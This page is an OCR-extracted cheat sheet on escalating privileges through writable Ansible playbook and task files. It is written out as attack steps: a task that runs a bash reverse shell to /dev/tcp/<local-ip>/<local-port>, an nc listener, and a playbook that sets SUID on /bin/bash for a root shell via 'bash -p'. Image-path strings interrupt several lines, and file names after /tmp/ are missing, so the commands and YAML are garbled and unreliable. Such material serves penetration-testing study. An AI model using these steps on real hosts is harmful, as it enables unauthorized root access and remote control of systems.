Ansible Playbook Privilege Escalation

Last modified: 2023-03-14

Privilege Escalation

Ansible Playbooks are lists of tasks that automatically execute against hosts.

PrivEsc with Tasks

First off, check the content of playbook in /opt/ansible/playbooks.
For instance, a file named “httpd.yaml”.

- name: Install and configure Apache
    - role: geerlingguy.apache
    - name: configure firewall

Next, check the content of configure files in /opt/ansible/roles/geerlingguy.apache/tasks.
And add the exploitable file in this.
For example, a file named “shell.yml”.

- hosts: localhost
    - name:RShell
      command: sudo bash /tmp/

Create a exploit for reverse shell.

echo '/bin/bash -i >& /dev/tcp/<local-ip>/<local-port> 0>&1' > /tmp/

Then open a listener in local machine.

nc -lvnp <local-port>

At the end, execute “ansible”

# or
# or
sudo -u <some-user> ansible

PrivEsc with Automation Task

If the target system runs automation tasks with Ansible Playbook asroot and we have write permission of task files (tasks/), we can inject arbitrarycommands in yaml file.
For example, create a new file /opt/ansible/tasks/evil.yaml.

- hosts: localhost
      - name: Evil |
          chmod +s/bin/bash
        become: true

After a while, we can escalatethe root privilege by executing the following command.

/bin/bash -p